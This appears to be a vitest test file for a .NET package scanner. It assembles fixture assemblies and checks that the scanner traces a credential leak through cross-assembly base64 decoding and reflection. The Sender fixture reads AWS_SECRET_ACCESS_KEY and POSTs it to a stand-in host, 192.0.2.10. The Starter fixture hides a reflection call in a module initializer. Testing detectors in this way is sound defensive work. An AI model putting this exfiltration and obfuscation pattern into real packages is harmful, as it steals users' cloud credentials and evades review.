import { describe, expect, it } from 'vitest';
import {
  assemble,
  method,
  type InstructionSpec,
  type TypeSpec,
} from '../kit/cil-assembler/assemble.js';
import { buildPackage } from '../kit/package-builder.js';
import { inspected } from './rich-package.js';

const publicStatic = 0x16;
const privateStatic = 0x11;
const encoding = '[System.Runtime]System.Text.Encoding';
const http = '[System.Net.Http]System.Net.Http.';
const readsVariable = method(
  '[System.Runtime]System.Environment',
  'GetEnvironmentVariable',
  'string',
  ['string'],
);

/** `Words.Store::Open` decodes base64; `::Read` reads a variable, and no instruction calls it. */
const words = assemble({
  name: 'Words',
  types: [
    {
      name: 'Words.Store',
      methods: [
        {
          name: 'Open',
          flags: publicStatic,
          returns: 'string',
          params: ['string'],
          body: [
            ['call', method(encoding, 'get_UTF8', `class ${encoding}`)],
            ['ldarg.0'],
            [
              'call',
              method('[System.Runtime]System.Convert', 'FromBase64String', 'uint8[]', ['string']),
            ],
            ['callvirt', method(encoding, 'GetString', 'string', ['uint8[]'], { instance: true })],
            ['ret'],
          ],
        },
        {
          name: 'Read',
          flags: privateStatic,
          body: [['ldstr', 'FIXTURE'], ['call', readsVariable], ['pop'], ['ret']],
        },
      ],
    } as TypeSpec,
  ],
});

const opened = (text: string): InstructionSpec[] => [
  ['ldstr', Buffer.from(text).toString('base64')],
  ['call', method('[Words]Words.Store', 'Open', 'string', ['string'])],
];

/** Sends a variable to an address, both of them decoded by the other assembly. */
const sender = assemble({
  name: 'Sender',
  types: [
    {
      name: 'Sender.Thing',
      methods: [
        {
          name: 'Run',
          flags: publicStatic,
          body: [
            ['newobj', method(`${http}HttpClient`, '.ctor', 'void', [], { instance: true })],
            ...opened('http://192.0.2.10/in'),
            ...opened('AWS_SECRET_ACCESS_KEY'),
            ['call', readsVariable],
            [
              'newobj',
              method(`${http}StringContent`, '.ctor', 'void', ['string'], { instance: true }),
            ],
            [
              'callvirt',
              method(
                `${http}HttpClient`,
                'PostAsync',
                'object',
                ['string', `class ${http}HttpContent`],
                {
                  instance: true,
                },
              ),
            ],
            ['pop'],
            ['ret'],
          ],
        },
      ],
    } as TypeSpec,
  ],
});

const byName = '[System.Runtime]System.';

/** Its module initializer calls `Words.Store::Read` by its name. */
const starter = assemble({
  name: 'Starter',
  types: [{ name: 'Starter.Thing' }],
  globals: [
    {
      name: '.cctor',
      flags: 0x1811,
      body: [
        ['ldstr', 'Words.Store, Words'],
        ['call', method(`${byName}Type`, 'GetType', `class ${byName}Type`, ['string'])],
        ['ldstr', 'Re'],
        ['ldstr', 'ad'],
        ['call', method(`${byName}String`, 'Concat', 'string', ['string', 'string'])],
        [
          'callvirt',
          method(`${byName}Type`, 'GetMethod', `class ${byName}Reflection.MethodInfo`, ['string'], {
            instance: true,
          }),
        ],
        ['ldnull'],
        ['ldnull'],
        [
          'callvirt',
          method(`${byName}Reflection.MethodBase`, 'Invoke', 'object', ['object', 'object[]'], {
            instance: true,
          }),
        ],
        ['pop'],
        ['ret'],
      ],
    },
  ],
} as Parameters<typeof assemble>[0]);

const packed = (files: Readonly<Record<string, Uint8Array>>): Uint8Array =>
  buildPackage({
    files: Object.fromEntries(
      Object.entries(files).map(([name, bytes]) => [`lib/net8.0/${name}.dll`, bytes]),
    ),
  });

describe('what code works out', () => {
  it('is worked out with the decoders of another assembly, and followed', async () => {
    const { facts } = await inspected(packed({ Sender: sender, Words: words }));
    expect(facts.of('environment-variable')).toMatchObject([
      { name: 'AWS_SECRET_ACCESS_KEY', location: { member: 'Sender.Thing::Run' } },
    ]);
    expect(facts.of('flow')).toMatchObject([
      {
        source: { kind: 'environment', text: 'AWS_SECRET_ACCESS_KEY' },
        sink: { api: 'System.Net.Http.HttpClient::PostAsync' },
        endpoint: { owner: 'address', host: '192.0.2.10', found: 'decoded' },
      },
    ]);
  });

  it('is not worked out where the other assembly is not there', async () => {
    const { facts } = await inspected(packed({ Sender: sender }));
    expect(facts.of('environment-variable')).toEqual([]);
    expect(facts.of('flow')).toEqual([]);
  });

  it('is reached by name', async () => {
    const reached = async (files: Readonly<Record<string, Uint8Array>>) => {
      const { report } = await inspected(packed(files));
      return report.entryPoints.flatMap(({ reaches }) => reaches.map(({ text }) => text));
    };
    const variable = 'System.Environment::GetEnvironmentVariable';
    expect(await reached({ Starter: starter, Words: words })).toContain(variable);
    expect(await reached({ Starter: starter })).not.toContain(variable);
  });
});
